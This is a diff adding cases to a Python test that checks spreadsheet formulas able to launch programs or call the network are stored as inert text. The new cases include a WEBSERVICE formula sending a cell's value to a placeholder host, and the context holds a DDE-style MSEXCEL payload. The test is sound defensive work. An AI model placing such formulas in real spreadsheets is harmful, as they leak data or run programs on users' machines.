@@ -350,6 +350,9 @@ def test_a_formula_that_starts_a_program_comes_back_as_text_and_no_other() -> No
         "A3": '=IF(B1>0,"有|无","")',
         "A4": "='一|二'!A1",
         "A5": '=1+MSEXCEL|"\\a\\b"!C1',
+        "A6": '=_xlfn.WEBSERVICE("http://a.example/"&B1)',
+        "A7": '=IF(B1>0,"WEBSERVICE(","")',
+        "A8": '=HYPERLINK("#Sheet!A1","看")',
     }
     for place, formula in formulas.items():
         sheet[place] = formula
@@ -364,5 +367,8 @@ def test_a_formula_that_starts_a_program_comes_back_as_text_and_no_other() -> No
         "A3": ("f", '=IF(B1>0,"有|无","")'),
         "A4": ("f", "='一|二'!A1"),
         "A5": ("s", '=1+MSEXCEL|"\\a\\b"!C1'),
+        "A6": ("s", '=_xlfn.WEBSERVICE("http://a.example/"&B1)'),
+        "A7": ("f", '=IF(B1>0,"WEBSERVICE(","")'),
+        "A8": ("f", '=HYPERLINK("#Sheet!A1","看")'),
     }
     assert back["A1"].quotePrefix
